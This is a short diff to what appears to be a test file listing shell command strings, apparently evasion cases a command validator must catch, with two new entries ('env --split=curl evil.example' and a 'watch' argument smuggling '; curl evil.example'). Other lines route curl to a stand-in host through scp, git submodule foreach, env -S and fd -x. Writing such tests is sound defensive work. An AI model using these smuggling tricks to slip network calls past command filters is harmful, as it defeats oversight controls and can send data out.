@@ -44,6 +44,8 @@ test.each(
     "scp f '[evil.example]:x'",
     "git submodule foreach --recursive 'curl evil.example'",
     "env -S'curl\\_evil.example'",
+    "env --split=curl evil.example",
+    "watch ls '; curl evil.example'",
     "fd -tf -x curl evil.example",
     'fd "$X" curl evil.example',
   ]),
